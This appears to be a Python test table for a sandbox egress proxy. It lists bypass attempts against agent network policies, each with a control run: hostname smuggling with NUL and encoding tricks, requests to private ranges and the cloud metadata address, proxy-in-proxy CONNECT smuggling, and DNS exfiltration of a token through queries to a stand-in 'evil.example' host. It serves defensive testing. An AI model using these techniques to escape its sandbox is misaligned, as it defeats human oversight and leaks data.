"""Attempts to get around a policy, each with a control: the same attempt where it must succeed.

An attempt is a function of inside.py with arguments; in them WORD stands for a word that only this attempt has, and it
has succeeded when that word came to any server, or came back. Where it is tried: a session of the agent `strict`
unless it says otherwise. Where the control is tried: in a session of the agent that it names, or `host`: on the host,
without a sandbox.
"""

from internet import EVIL, EVIL6, HOST4, HOST6, OTHER, RESOLVER

ROWS = []


class Row:
    def __init__(self, name, function, arguments, control, agents):
        self.name, self.function, self.arguments = name, function, arguments
        self.control_agent, self.control_function, self.control_arguments = control
        self.agents = agents


def row(name, function, arguments, control, agents=("strict",)):
    """`control`: (agent,) for the same attempt, (agent, arguments), or (agent, function, arguments)."""
    if len(control) == 1:
        control = (control[0], function, arguments)
    elif len(control) == 2:
        control = (control[0], function, {**arguments, **control[1]})
    ROWS.append(Row(name, function, arguments, control, agents))


def get(authority, way="connect", **more):
    return {"way": way, "authority": authority, "token": "WORD", **more}


# --- names ---

GOOD = ("strict", {"authority": "www.example:80"})
for _way in ("connect", "socks"):
    row(f"a name without a rule, {_way}", "get", get("forbidden.example:80", _way), ("open2",))
row("a name without a rule, by itself", "get", get("forbidden.example:80", "itself"), ("open2",))
row("upper case", "get", get("FORBIDDEN.EXAMPLE:80"), ("strict", {"authority": "WWW.EXAMPLE:80"}))
row("a dot at the end", "get", get("forbidden.example.:80"), ("strict", {"authority": "www.example.:80"}))
for _title, _text in {
        "NUL before an allowed suffix": "evil.example\0.good.example:80", "NUL after an allowed name": "www.example\0:80",
        "NUL and another name": "www.example\0evil.example:80", "a control character": "www.example\x01:80",
        "a tab": "evil.example\t.good.example:80", "a space": "evil.example .good.example:80",
        "percent-encoding of a dot": "evil%2eexample:80", "percent-encoding of NUL": "evil.example%00.good.example:80",
        "percent-encoding of a letter": "%65vil.example:80",
        "full-width letters": "\xef\xbd\x85vil.example:80", "an ideographic full stop": "evil.example\xe3\x80\x82good.example:80",
        "Latin-1 letters": "b\xfccher.good.example:80", "a user name": "www.example@evil.example:80",
        "a user name and a password": "www.example:80@evil.example:80", "a fragment": "evil.example#.good.example:80",
        "a query": "evil.example?.good.example:80", "a path": "evil.example/.good.example:80",
        "a backslash": "evil.example\\.good.example:80", "a very long name": "a." * 200 + "good.example:80",
        "a very long label": "a" * 64 + ".good.example:80", "a hyphen at the beginning": "-a.good.example:80",
        "an empty label": "a..good.example:80", "a dot at the beginning": ".good.example:80", "a star": "*.good.example:80",
        "two dots at the end": "www.example..:80", "an empty name": ":80"}.items():
    row(f"name with {_title}", "get", get(_text), GOOD)
    if len(_text) < 250:
        row(f"name with {_title}, over SOCKS", "get", get(_text, "socks"), GOOD)
row("an underscore only where it is allowed", "get", get("under_score.evil.example:80"),
    ("strict", {"authority": "under_score.good.example:80"}))
for _text in ("badgood.example", "www.example.evil", "evilwww.example", "good.example"):
    row(f"suffix: {_text}", "get", get(f"{_text}:80"), ("open",))
row("a denied name below an allowed suffix", "get", get("denied.good.example:80"), ("open",))
row("a denied name by itself", "get", get("denied.good.example:80", "itself"), ("open",))

# --- ports ---

for _port in (22, 8080):
    row(f"port {_port}, which is in no rule", "get", get(f"www.example:{_port}"), ("open",))
    row(f"port {_port} over SOCKS", "get", get(f"www.example:{_port}", "socks"), ("open",))
row("port 22 by itself", "get", get("www.example:22", "itself"), ("host", {"authority": "203.0.113.10:22"}))
for _text in ("0", "65616", "-80", "+80", "80:80", "0x50", "80 ", " 80", "http", ""):
    row(f"the port '{_text}'", "get", get(f"www.example:{_text}"), GOOD)
row("port 0 over SOCKS", "get", get("www.example:0", "socks"), ("strict", {"authority": "www.example:80"}))

# --- addresses ---

for _title, _text in {
        "decimal": "3405803796", "octal": "0313.0.0161.024", "hexadecimal": "0xcb007114", "mixed": "0xcb.0.0161.20",
        "short": "203.28948", "with zeros": "0203.000.113.020"}.items():
    # What a number in this form means is up to the C library: on the host it goes there, or somewhere else.
    _control = {"authority": f"{EVIL}:80"} if _title == "with zeros" else {}
    row(f"an address in the form {_title}", "get", get(f"{_text}:80"), ("host", {"way": "itself", **_control}))
    row(f"an address in the form {_title} over SOCKS", "get", get(f"{_text}:80", "socks"),
        ("host", {"way": "itself", **_control}))
for _text in (EVIL, f"[{EVIL6}]", f"[::ffff:{EVIL}]", OTHER, "203.0.113.10"):
    row(f"the public address {_text}", "get", get(f"{_text}:80"), ("free",))
row("a public address over SOCKS", "get", get(f"{EVIL}:80", "socks"), ("free",))
row("a public address by itself", "get", get(f"{EVIL}:80", "itself"), ("host",))
row("a public IPv6 address by itself", "get", get(f"[{EVIL6}]:80", "itself"), ("host",))
row("a denied range, with open", "get", get(f"{OTHER}:80"), ("free",), ("open", "strict"))
row("a denied range in IPv6 form, with open", "get", get(f"[::ffff:{OTHER}]:80"), ("free",), ("open", "strict"))
row("a name into a denied range", "get", get("intodenied.good.example:80"), ("free",), ("open", "strict"))
EVERYBODY = ("strict", "open", "greedy")
for _text in ("10.9.8.7", "172.16.5.5", "192.168.7.7", "169.254.169.254", "169.254.5.5", "100.64.0.9",
              "100.100.100.200", "192.0.0.192", "198.18.5.5", "127.0.0.1", "127.9.9.9", HOST4, f"[{HOST6}]", "[::1]",
              "[fd00:ec2::254]", "[fd12:3456::7]", "[64:ff9b::a09:807]", "[2002:a09:807::1]", "[fec0::7]",
              "[::ffff:10.9.8.7]", "[::ffff:127.0.0.1]"):
    row(f"private: {_text}", "get", get(f"{_text}:80"), ("free",), EVERYBODY)
for _text in ("0.0.0.0", "[::]", "[::127.0.0.1]", "[fe80::1%25inside]", "[fe80::1]", "127.1", "localhost",
              "224.0.0.1", "255.255.255.255", "0", "[::ffff:0:10.9.8.7]"):
    row(f"private: {_text}", "get", get(f"{_text}:80"), ("free", {"authority": "127.0.0.1:80"}), EVERYBODY)
row("loopback over SOCKS, as IPv4", "get", get("127.0.0.1:80", "socks"), ("free",), EVERYBODY)
row("loopback over SOCKS, as an IPv4 address", "socks_get", {"authority": "127.0.0.1:80", "kind": 1, "token": "WORD"},
    ("free",), EVERYBODY)
row("loopback over SOCKS, as an IPv6 address", "socks_get", {"authority": "::1:80", "kind": 4, "token": "WORD"},
    ("free",), EVERYBODY)
row("loopback over SOCKS, mapped", "socks_get", {"authority": "::ffff:127.0.0.1:80", "kind": 4, "token": "WORD"},
    ("free",), EVERYBODY)

# --- names that lead to places ---

for _name in ("private", "metadata", "loopback", "self", "self6", "loopback6", "local6", "nat64", "sixtofour",
              "benchmark", "carrier", "cname"):
    row(f"a name that leads to: {_name}", "get", get(f"{_name}.good.example:80"), ("free",), EVERYBODY)
for _name in ("zero", "mapped", "many"):
    row(f"a name that leads to: {_name}", "get", get(f"{_name}.good.example:80"),
        ("free", {"authority": "private.good.example:80"}), EVERYBODY)
row("a private name by itself", "get", get("private.good.example:80", "itself"), ("free",), EVERYBODY)
row("a private name over SOCKS", "get", get("private.good.example:80", "socks"), ("free",), EVERYBODY)
row("a private name, absolute", "exchange", {"data": "GET http://private.good.example/WORD HTTP/1.1\r\nHost: "
    "private.good.example\r\nConnection: close\r\n\r\n"}, ("free",), EVERYBODY)

# --- name queries ---

for _kind, _number in {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33,
                       "AXFR": 252, "ANY": 255}.items():
    row(f"data in a {_kind} query", "ask", {"name": "WORD.evil.example", "kind": _number},
        ("host", {"server": RESOLVER}))
row("data in a query over TCP", "ask", {"name": "WORD.evil.example", "stream": True},
    ("host", {"server": RESOLVER, "stream": True}))
row("data in a query below an allowed suffix", "ask", {"name": "WORD.good.example", "kind": 16},
    ("strict", "get", {"way": "connect", "authority": "WORD.good.example:80", "token": "x"}))
row("data in a name that is connected to", "get", {"way": "connect", "authority": "WORD.evil.example:80", "token": "x"},
    ("free",))
row("data in a name over SOCKS", "get", {"way": "socks", "authority": "WORD.evil.example:80", "token": "x"}, ("free",))
row("data in the name of an absolute request", "exchange",
    {"data": "GET http://WORD.evil.example/ HTTP/1.1\r\nHost: WORD.evil.example\r\nConnection: close\r\n\r\n"}, ("free",))
row("data in the name of a TLS hello", "tls",
    {"way": "itself", "authority": "198.18.77.77:443", "name": "WORD.evil.example", "token": "x"},
    ("host", "ask", {"name": "WORD.evil.example", "server": RESOLVER}))
row("a query to the real name server", "ask", {"name": "WORD.evil.example", "server": RESOLVER}, ("host",))
row("a query to the real name server over TCP", "ask", {"name": "WORD.evil.example", "server": RESOLVER, "stream": True},
    ("host",))
row("the name server through the proxy", "ask_through", {"way": "connect", "authority": f"{RESOLVER}:53",
    "name": "WORD.evil.example"}, ("free",), ("strict", "open"))

# --- other than TCP ---

row("UDP", "datagram", {"address": EVIL, "port": 7, "token": "WORD"}, ("host",), ("strict", "open"))
row("UDP over IPv6", "datagram", {"address": EVIL6, "port": 7, "token": "WORD"}, ("host",), ("strict", "open"))
row("UDP to an address of a name", "datagram_name", {"name": "www.example", "port": 7, "token": "WORD"},
    ("host", "datagram", {"address": "203.0.113.10", "port": 7, "token": "WORD"}))
row("UDP over every interface", "multicast", {"token": "WORD"}, ("host", "datagram", {"address": EVIL, "port": 7, "token": "WORD"}))
row("ICMP", "ping", {"address": EVIL, "token": "WORD"}, ("host",), ("strict", "open"))
row("ICMP without a raw socket", "ping", {"address": EVIL, "token": "WORD", "kind": "plain"},
    ("host", {"kind": "raw"}), ("strict", "open"))
row("a packet socket", "packet_socket", {"token": "WORD"}, ("host",))

# --- proxies behind the proxy, and the way out itself ---

row("another proxy", "get", get(f"{EVIL}:3128"), ("free",))
row("another proxy by its name", "get", get("evil.example:3128"), ("free",))
row("another SOCKS proxy", "get", get("evil.example:1080", "socks"), ("free",))
row("the tunnel as a proxy, absolute", "say", {"way": "connect", "authority": "www.example:80",
    "data": "GET http://forbidden.example/WORD HTTP/1.1\r\nHost: forbidden.example\r\nConnection: close\r\n\r\n"},
    ("strict", {"data": "GET http://www.example/WORD HTTP/1.1\r\nHost: www.example\r\nConnection: close\r\n\r\n"}))
row("the tunnel as a proxy, CONNECT", "say", {"way": "connect", "authority": "www.example:80",
    "data": "CONNECT forbidden.example:80 HTTP/1.1\r\nHost: forbidden.example:80\r\n\r\n"
            "GET /WORD HTTP/1.1\r\nHost: forbidden.example\r\n\r\n"},
    ("strict", {"data": "GET /WORD HTTP/1.1\r\nHost: www.example\r\nConnection: close\r\n\r\n"}))
for _port in (53, 3128):
    for _host in ("127.0.0.1", "www.example", "localhost", "198.18.0.1"):
        row(f"the way out as a destination: {_host}:{_port}", "get", get(f"{_host}:{_port}"), GOOD, ("strict", "open"))
row("redirect to a name without a rule", "redirected", {"url": "http://www.example/away?HALF"}, ("open2",))
row("redirect to the metadata service", "redirected", {"url": "http://www.example/inward?HALF"}, ("free",),
    ("strict", "open"))
